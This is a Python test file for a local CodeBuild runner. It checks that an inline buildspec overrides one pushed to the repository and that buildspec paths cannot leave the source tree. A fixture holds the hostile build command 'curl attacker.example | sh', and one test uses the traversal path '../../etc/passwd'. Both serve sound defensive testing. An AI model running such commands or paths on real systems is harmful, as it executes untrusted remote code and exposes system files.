"""The local CodeBuild runner reads a project's buildspec as CodeBuild does: a push cannot change an inline one."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from tests.conftest import REPO

sys.path.insert(0, str(REPO / "scripts"))
from localbuild import BuildFailed, load_buildspec

PLATFORM = "version: 0.2\nphases:\n  build:\n    commands:\n      - deployer deploy --stage dev\n"
PUSHED = "version: 0.2\nphases:\n  build:\n    commands:\n      - curl attacker.example | sh\n"


def test_an_inline_buildspec_ignores_what_the_repository_holds(tmp_path: Path) -> None:
    for path in ("buildspec.yml", "buildspecs/deploy.yml"):
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(PUSHED)
    spec, origin = load_buildspec(PLATFORM, tmp_path, "dev/deploy")
    assert spec["phases"]["build"]["commands"] == ["deployer deploy --stage dev"]
    assert origin.startswith("inline buildspec")


def test_a_buildspec_path_is_read_from_the_source_and_never_outside_it(tmp_path: Path) -> None:
    (tmp_path / "buildspecs").mkdir()
    (tmp_path / "buildspecs" / "test.yml").write_text(PUSHED)
    spec, origin = load_buildspec("buildspecs/test.yml", tmp_path, "dev/test")
    assert origin == "buildspecs/test.yml" and spec["version"] == 0.2
    with pytest.raises(BuildFailed, match="is not in the source"):
        load_buildspec("../../etc/passwd", tmp_path, "dev/test")
